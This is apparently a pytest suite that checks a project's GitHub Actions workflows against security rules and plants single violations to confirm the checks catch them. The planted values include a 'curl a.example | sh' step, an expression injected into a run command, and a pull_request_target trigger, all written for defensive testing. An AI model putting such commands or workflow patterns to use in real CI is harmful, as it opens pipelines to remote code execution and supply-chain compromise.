"""Every rule holds for every workflow, and a planted violation of it is found."""

from collections.abc import Callable, Iterator

import pytest

from tests.workflows.files import FOLDER, Workflow, list_uses, read_actions, read_workflow, read_workflows
from tests.workflows.rules import (
    RULES,
    check_actions,
    check_checkouts,
    check_commands,
    check_concurrency,
    check_events,
    check_length,
    check_permissions,
    check_timeouts,
    list_steps,
    read_listed,
)

NAMES = {
    "ci.yml", "model.yml", "comment.yml", "main.yml", "retrain.yml", "make.yml", "e2e.yml", "release.yml",
    "rollback.yml", "overlays.yml",
}  # fmt: skip # a table
CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"


def test_the_workflows_are_there_with_what_the_rules_look_at() -> None:
    workflows = read_workflows()
    assert {workflow.name for workflow in workflows} >= NAMES
    assert sum(len(workflow.jobs) for workflow in workflows) >= 15
    assert sum(1 for workflow in workflows for _ in list_steps(workflow)) >= 50
    assert sum(1 for workflow in workflows for _ in list_uses(workflow)) >= 30


@pytest.mark.parametrize("rule", RULES)
@pytest.mark.parametrize("workflow", read_workflows(), ids=lambda workflow: workflow.name)
def test_every_workflow_keeps_every_rule(workflow: Workflow, rule: Callable[[Workflow], Iterator[str]]) -> None:
    assert list(rule(workflow)) == []


def plant(name: str, old: str, new: str, tmp_path_factory: pytest.TempPathFactory) -> Workflow:
    """A real workflow with one change."""
    text = (FOLDER / name).read_text(encoding="utf-8")
    assert old in text
    path = tmp_path_factory.mktemp("planted") / name
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return read_workflow(path)


@pytest.mark.parametrize(
    ("rule", "name", "old", "new", "told"),
    [
        (check_permissions, "ci.yml", "\npermissions: {}\n", "\npermissions: read-all\n", "expected {} on top"),
        (check_permissions, "ci.yml", "\npermissions: {}\n", "\n", "permissions are None"),
        (check_permissions, "main.yml", " # to push :main-<sha> and :edge", "", "packages: write without a reason"),
        (check_permissions, "comment.yml", "    permissions:\n", "    env:\n", "expected a list of its own"),
        (check_timeouts, "retrain.yml", "    timeout-minutes: 45\n", "", "timeout-minutes None"),
        (check_timeouts, "model.yml", "timeout-minutes: 45", "timeout-minutes: 360", "timeout-minutes 360"),
        (check_concurrency, "comment.yml", "  cancel-in-progress: false\n", "", "expected a group"),
        (check_events, "model.yml", "  pull_request:\n", "  pull_request_target:\n", "pull_request_target"),
        (check_actions, "ci.yml", "@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7", "40 hexadecimal"),
        (check_actions, "ci.yml", "3d3c42e5aac5ba805825da76410c181273ba90b1", "0" * 40, "not in the table"),
        (check_actions, "ci.yml", " # v7.0.1", " # v7", "expected its version"),
        (check_checkouts, "make.yml", "          persist-credentials: false\n", "", "persist-credentials None"),
        (check_checkouts, "comment.yml", "event.repository.default_branch", "event.workflow_run.head_sha", "head_sha"),
        (check_commands, "model.yml", "run: make decide", "run: make decide N=${{ github.event.number }}", "pastes"),
        (check_commands, "model.yml", "run: make judge", "run: curl a.example | sh", "expected a verb"),
        (check_length, "ci.yml", "\njobs:\n", "\njobs:\n" + "\n" * 400, "lines, expected"),
    ],
)
def test_a_planted_violation_is_found(
    rule: Callable[[Workflow], Iterator[str]],
    name: str,
    old: str,
    new: str,
    told: str,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    found = list(rule(plant(name, old, new, tmp_path_factory)))
    assert len(found) >= 1
    assert told in found[0]


def test_every_listed_action_is_used() -> None:
    files = [*read_workflows(), *read_actions()]
    used = {(use.action, use.reference, use.comment) for workflow in files for use in list_uses(workflow)}
    assert read_listed() == used
